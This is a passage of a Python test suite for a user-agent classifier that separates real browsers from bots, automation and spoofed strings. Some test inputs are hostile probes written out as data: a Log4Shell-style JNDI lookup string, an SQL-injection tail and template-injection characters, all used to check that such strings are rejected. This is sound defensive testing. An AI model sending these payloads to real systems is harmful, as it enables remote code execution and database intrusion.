    ("Mozilla/4.0 (compatible; MSIE 7.0; X11; Linux x86_64)", "os"),
    ("Mozilla/4.0 WebTV/2.6 (compatible; MSIE 8.0)", "os"),
    # Chrome 160 in January 2026 (Chrome 143 was current)
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/160.0.0.0 "
     "Safari/537.36", "version"),
])
def test_browsers_whose_parts_do_not_fit_together(ua, reason):
    facts = device_signals(ua, None, at=JAN_2026)
    assert (facts["real_browser"], facts.get("browser_mismatch")) == (False, reason)


@pytest.mark.parametrize("ua", [
    # the unknown automation of issue 17, which no list kyc used named
    "Node.js", "libredtail-http", "Datadog Agent/5.10.1", "Seobility", "Mozilla/5.0 (compatible; PhishBucketRust/1.0)",
    "${jndi:ldap://198.51.100.7:1389/a}",
    # monitors and synthetic tests that uap-core names (its rules before any browser's), on a browser's tokens
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.7559.133 Safari/537.36 "
    "RuxitSynthetic/1.0 v148429737999 t4519022964667904509",
    "Mozilla/5.0 (X11; Linux x86_64; Catchpoint) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.90 "
    "Safari/537.36",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
    "MyApp/3.2 CFNetwork/1410.0.3 Darwin/22.6.0", "Mozilla/5.0", "",
    # an app's token before a Mozilla form with no engine; engine tokens without their browser's name
    "MyApp/1.0 Mozilla/5.0 (compatible; MyApp)", "Mozilla/5.0/Firefox/42.0", "fetch-client U2/1.0.0",
    # Konqueror's name proves its engine only in a browser's form
    "Konqueror/3.5 (Linux)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36' OR '1'='1",
    # a device's tokens before a Mozilla form only when they are product tokens: not a sentence
    "Anonymous, Mozilla/5.0 (Linux; Android 9; Pixel 3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/76.0.3809.111 "
    "Mobile Safari/537.36",
    # a bot on an Android browser's string: its name outside the device model still counts
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.6099.109 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "rest-client/2.1.0 (linux x86_64) ruby/2.7.6p219",
    # the JDK's HTTP client names Java with its version
    "Java/17.0.2", "Mozilla/5.0 (Windows NT 10.0) Java/1.8.0_151",
    # a contact address signs a robot, like a contact URL, even on a browser's string
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36 +collection@example-social.com",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0 (mailto:ops@example.org)",
])
def test_anything_that_is_no_recognised_browser_is_not_a_real_browser(ua):
    facts = device_signals(ua, None, at=JAN_2026)
    if not ua:
        assert facts == {"ua_missing": True}
        return
    assert facts["real_browser"] is False and facts["browser_mismatch"] in ("unrecognised", "bot")


def test_client_hints_that_disagree_make_it_no_real_browser():
    honest = {"sec-ch-ua": '"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"',
              "sec-ch-ua-platform": '"Windows"', "sec-ch-ua-mobile": "?0"}
    assert device_signals(CHROME_WIN, None, client_hints=honest)["real_browser"] is True
    lying = device_signals(CHROME_WIN, None, client_hints={**honest, "sec-ch-ua-platform": '"Linux"'})
    assert (lying["real_browser"], lying["browser_mismatch"]) == (False, "hints")
    headless = device_signals(CHROME_WIN, None, client_hints={"sec-ch-ua": '"HeadlessChrome";v="131"'})
    assert (headless["real_browser"], headless["browser_mismatch"]) == (False, "bot")


def test_every_browser_of_the_fake_useragent_corpus_parses_into_the_model():
    # Every string gets a verdict and a reason when it is not a real browser.
    for ua in REAL_UAS:
        facts = device_signals(ua, None, at=JAN_2026)
        assert isinstance(facts["real_browser"], bool)
        assert facts["real_browser"] == ("browser_mismatch" not in facts)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_generated_user_agents_never_raise_and_never_pass_without_a_browser_form(ua):
    facts = device_signals(ua, None, at=JAN_2026)
    if not ua:
        assert facts == {"ua_missing": True}
    elif not re.match(r"Mozilla/[1-6]\.\d+[ (]|Opera/9\.", ua) and not re.search(r"Mozilla/[45]\.0 ?\(", ua) \
            and not re.search(r"Presto/|UCWEB|UCBrowser|UCPro|Amiga|MorphOS|AROS|BeOS|Haiku|RISC ?OS|Syllable|OS/2|"
                              r"Palm ?OS|MIDP|UP\.Browser/|MAUI|MRE/|DoCoMo/|WAP-Browser/|Android/.*Release/|HbbTV/|"
                              r"CE-HTML/|NETTV/", ua):
        # without a browser's form only the browsers that never had one (Lynx, Opera Mini, WAP, feature
        # phones' and TV standards' own forms) pass
        assert facts["real_browser"] is False or facts["browser"] in ENGINELESS_BROWSERS


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(sorted(OLD_BUT_REAL.values())),
       st.one_of(st.text(alphabet="'\"<>`\\", min_size=1, max_size=5),
                 st.tuples(st.sampled_from(["${", "{{", "$("]), st.text(max_size=20)).map("".join)),
       st.integers(min_value=0, max_value=400))
def test_probe_characters_spliced_into_a_real_browser_make_it_unrecognised(ua, probe, at):
    spliced = ua[:min(at, len(ua))] + probe + ua[min(at, len(ua)):]
    assert device_signals(spliced, None, at=JAN_2026)["real_browser"] is False


def test_bare_braces_of_a_toolbar_are_not_a_probe():
    # an Internet Explorer toolbar writes CK={} into IE 11's string; no template is expanded there
    ie11 = "Mozilla/5.0 CK={} (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
    assert device_signals(ie11, None, at=JAN_2026)["real_browser"] is True
    assert device_signals(ie11.replace("{}", "${jndi:ldap://x/a}"), None, at=JAN_2026)["real_browser"] is False


ANDROID_CHROME = ("Mozilla/5.0 (Linux; Android 14; {model}) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/131.0.0.0 Mobile Safari/537.36")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789 _-", min_size=1, max_size=20),
       st.sampled_from(["bot", "Bot", "Ruby", "crawler", "spider"]),
       st.sampled_from(["{model} {word}", "{word} {model}", "{model}_{word}"]))
def test_a_word_in_an_android_device_model_is_the_product_name_but_after_the_string_it_is_the_clients(model, word,
                                                                                                       shape):
    named = shape.format(model=model.strip() or "X", word=word)
    assert device_signals(ANDROID_CHROME.format(model=named), None, at=AT)["real_browser"] is True
    signed = ANDROID_CHROME.format(model=model.strip() or "X") + f" (compatible; Some{word}/1.0)"
    assert device_signals(signed, None, at=AT)["real_browser"] is False


ANDROID_WEBVIEW = ("Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, "
                   "like Gecko) Version/4.0 Chrome/124.0.6367.123 Mobile Safari/537.36")


@settings(max_examples=200, deadline=None)
@given(st.from_regex(r"[A-Z][a-z]{0,8}", fullmatch=True),
       st.sampled_from(["Scanner", "Monitor", "Checker", "Validator", "Preview"]),   # (ua-parser itself calls a
       st.from_regex(r"[0-9]{1,2}(\.[0-9]{1,10}){0,3}", fullmatch=True))        # `..Bot/1` a bot, wherever it is)
def test_a_tools_word_in_the_apps_name_after_a_webview_is_the_apps_but_a_link_or_a_mobile_chrome_is_a_bots(
        name, word, version):
    app = f"{name}{word}/{version}"                       # CamScanner/6.60.0, BabyMonitor/2.1
    assert device_signals(f"{ANDROID_WEBVIEW} {app}", None, at=AT)["real_browser"] is True
    # the same token after a browser that is no app's WebView, or a contact link after the WebView: a bot
    assert device_signals(f"{ANDROID_CHROME.format(model='SM-S918B')} {app}", None, at=AT)["bot"] is True
    assert device_signals(f"{ANDROID_WEBVIEW} https://{name.lower()}.example/{word.lower()}", None,
                          at=AT)["bot"] is True


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64",
                        "X11; CrOS x86_64 14541.0.0"]),
       st.from_regex(r"[A-Za-z][A-Za-z0-9.-]{1,15}", fullmatch=True), st.booleans())
def test_a_word_in_desktop_chromes_platform_comment_is_a_tools(platform, word, before):
    comment = f"{word}; {platform}" if before else f"{platform}; {word}"
    assert device_signals(CHROME_WIN.replace("Windows NT 10.0; Win64; x64", platform), None,
                          at=AT)["real_browser"] is True
    facts = device_signals(CHROME_WIN.replace("Windows NT 10.0; Win64; x64", comment), None, at=AT)
    assert facts["real_browser"] is False
